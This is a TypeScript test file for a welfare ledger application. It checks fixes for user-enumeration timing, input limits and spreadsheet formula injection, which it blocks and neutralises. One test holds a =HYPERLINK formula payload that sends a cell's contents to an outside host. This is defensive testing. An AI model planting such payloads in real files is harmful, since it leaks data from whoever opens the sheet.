// The holes found when the ledger was attacked through its own API with a clerk's account (issue 13), each closed
// and held shut by a test through the dispatcher or the web host.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import ExcelJS from 'exceljs';

import { idNumberFor } from '../../main/demo/fictional';
import { newSession } from '../../main/dispatch';
import { must, refused, world } from './helpers';
import { paymentsWorld } from './paymentsSetup';

/** Median milliseconds of a few sign-in attempts. */
async function signInTime(attempt: () => Promise<unknown>, runs = 3): Promise<number> {
  const times: number[] = [];
  for (let i = 0; i < runs; i++) {
    const t = performance.now();
    await attempt();
    times.push(performance.now() - t);
  }
  return times.sort((a, b) => a - b)[Math.floor(runs / 2)];
}

test('12. sign-in: unknown, existing and locked usernames hear the same words in the same time', async () => {
  const w = await world();
  await w.admin();
  await w.staff('locked', ['clerk']);
  const attempt = (username: string, password = 'wrong-pass') =>
    w.call(newSession(), 'session.signIn', { username, password });
  for (let i = 0; i < 5; i++) await attempt('locked');
  const answers = await Promise.all(['nobody', 'admin', 'locked'].map(async (u) => refused(await attempt(u)).message));
  assert.deepEqual(new Set(answers).size, 1, `one answer for all: ${answers.join(' | ')}`);
  // Each answer costs one password derivation (scrypt, ~0.1–0.5 s here), so none is quick.
  const known = await signInTime(() => attempt('admin'));
  for (const u of ['nobody', 'locked']) {
    const t = await signInTime(() => attempt(u));
    assert.ok(t > known * 0.5 && t < known * 2, `${u}: ${t.toFixed(0)} ms against ${known.toFixed(0)} ms`);
  }
  // Only the right password learns that the account is locked.
  assert.match(refused(await attempt('locked', 'staff-pass-1')).message, /账号已锁定至/);
});

test('13. money at most 100,000,000 yuan; a wrong letter in an 18-character ID is named, not counted', async () => {
  const w = await world();
  const admin = await w.admin();
  const areaId = must(await w.call(admin, 'areas.save', { name: '东山村' })).id;
  const clerk = await w.staff('li', ['clerk']);
  const id = idNumberFor('1960-05-01', 3, false);
  const h = must(
    await w.call(clerk, 'households.create', { areaId, members: [{ name: '张三', idNumber: id, relation: '户主' }] }),
  );
  const register = (amount: string) =>
    w.call(clerk, 'applications.register', {
      householdId: h.id,
      personId: h.members[0].id,
      kindCode: 'medical_relief',
      reason: '住院',
      amount,
      materials: [],
    });
  const e = refused(await register('100000000.99'));
  assert.deepEqual([e.field, e.message], ['amount', '金额不能超过 100,000,000 元，请核对']);
  must(await register('100000000.00'));
  const bad = id.slice(0, 10) + 'A' + id.slice(11);
  const m = refused(await w.call(clerk, 'persons.checkId', { idNumber: bad })).message;
  assert.equal(m, '身份证号只能是数字（最后一位可以是 X），“A”不对');
  assert.equal(w.count('applications'), 1);
});

test('8. formula injection: names like =HYPERLINK refused at entry; the bank CSV and roster .xlsx keep them as text', async () => {
  const pw = await paymentsWorld();
  const { w, clerk, approver, household, approved, areaId } = pw;
  const FORMULA = '=HYPERLINK("http://x/?"&A1,"点")';
  const member = { name: FORMULA, idNumber: idNumberFor('1950-02-02', 7, false), relation: '户主' as const };
  const e = refused(await w.call(clerk, 'households.create', { areaId, members: [member] }));
  assert.deepEqual([e.field, e.message], ['members.0.name', '姓名不能以 = + - @ 开头']);
  for (const bad of ['+1', '-1', '@SUM(A1)']) {
    const r = refused(
      await w.call(clerk, 'cadres.save', { name: bad, unit: '', phone: '', partyMember: true, active: true }),
    );
    assert.equal(r.field, 'name', bad);
  }
  // A name that reached the ledger another way (an old file, a hand edit) is still written as text.
  const h = await household('周一');
  w.ledger.db.prepare('UPDATE persons SET name = ? WHERE id = ?').run(FORMULA, h.members[0].id);
  must(
    await w.call(clerk, 'entitlements.save', {
      applicationId: await approved(h, 'elderly_allowance', '200'),
      startMonth: '2026-11',
      endMonth: null,
    }),
  );
  const b = must(await w.call(clerk, 'payroll.create', { month: '2026-11', kindCode: null }));
  must(await w.call(approver, 'payroll.approve', { id: b.id }));
  const csv = Buffer.from(must(await w.call(approver, 'payroll.bankFile', { id: b.id })).base64, 'base64').toString();
  assert.ok(csv.includes(`"'=HYPERLINK(""http://x/?""&A1,""点"")"`), csv);
  const xlsx = must(await w.call(clerk, 'payroll.rosterXlsx', { id: b.id }));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(xlsx.base64, 'base64') as never);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[0].eachRow((row) => row.eachCell((c) => cells.push(c)));
  const cell = cells.find((c) => String(c.value).includes('HYPERLINK'))!;
  assert.equal(cell.type, ExcelJS.ValueType.String, 'a string cell, never a formula');
});
